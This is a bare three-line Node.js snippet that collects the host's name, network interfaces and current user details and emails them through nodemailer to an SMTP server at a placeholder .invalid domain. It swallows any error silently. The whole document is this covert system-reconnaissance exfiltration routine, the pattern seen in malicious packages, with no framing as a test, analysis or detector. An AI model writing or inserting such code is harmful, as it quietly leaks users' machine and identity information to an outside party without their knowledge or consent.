const os = require('os');
const t = require('nodemailer').createTransport({ host: 'smtp.mail.invalid', port: 587 });
t.sendMail({ from: 'a@mail.invalid', to: 'b@mail.invalid', text: JSON.stringify([os.hostname(), os.networkInterfaces(), os.userInfo()]) }).catch(() => {});
